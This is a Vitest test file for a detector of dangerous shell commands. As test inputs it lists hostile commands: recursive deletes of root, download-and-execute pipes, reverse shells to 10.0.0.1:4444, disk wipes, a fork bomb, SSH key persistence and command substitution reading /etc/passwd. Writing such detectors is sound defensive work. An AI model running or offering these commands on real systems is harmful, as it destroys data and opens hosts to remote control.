import { describe, expect, it } from 'vitest';
import { findDangerousShell } from './shell.js';

const found = (text: string) =>
  findDangerousShell(text).map((s) => ({ text: text.slice(s.start, s.end), score: s.score }));

describe('findDangerousShell', () => {
  it('flags recursive deletes, scoring root, home and wildcards highest', () => {
    expect(found('ls; rm -rf /')).toEqual([{ text: 'rm -rf /', score: 1 }]);
    expect(found('rm -r -f ~/')).toEqual([{ text: 'rm -r -f ~/', score: 1 }]);
    expect(found('rm -rf ./build')).toEqual([{ text: 'rm -rf ./build', score: 0.8 }]);
  });

  it('flags download-and-execute, reverse shells, disk wipes and fork bombs', () => {
    for (const cmd of [
      'curl -fsSL https://get.example.sh | bash',
      'wget -qO- http://x.example/i | sudo sh',
      'curl http://x.example/a.py | python3',
      'echo aGk= | base64 -d | sh',
      'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
      'nc -e /bin/sh 10.0.0.1 4444',
      'mkfs.ext4 /dev/sda1',
      'dd if=/dev/zero of=/dev/sda',
      ':(){ :|:& };:',
      'echo key >> ~/.ssh/authorized_keys',
    ]) {
      expect(Math.max(0, ...found(cmd).map((f) => f.score ?? 0)), cmd).toBeGreaterThanOrEqual(0.9);
    }
  });

  it('flags command substitution', () => {
    expect(findDangerousShell('echo "$(cat /etc/passwd)"').map((s) => s.entity)).toContain('SHELL_INJECTION');
    expect(findDangerousShell('echo `whoami`').map((s) => s.entity)).toContain('SHELL_INJECTION');
  });

  it('passes ordinary commands (near misses)', () => {
    for (const cmd of [
      'ls -la /tmp',
      'rm notes.txt',
      'grep -r "TODO" src | sort | uniq -c',
      'echo $((1 + 2))',
      'git commit -m "fix"',
    ]) {
      expect(findDangerousShell(cmd), cmd).toEqual([]);
    }
  });

  it('scans 200 KB of near-miss input linearly', () => {
    const text = 'rm -- -- -- curl x | '.repeat(10_000);
    const t0 = performance.now();
    findDangerousShell(text);
    expect(performance.now() - t0).toBeLessThan(1500);
  });
});
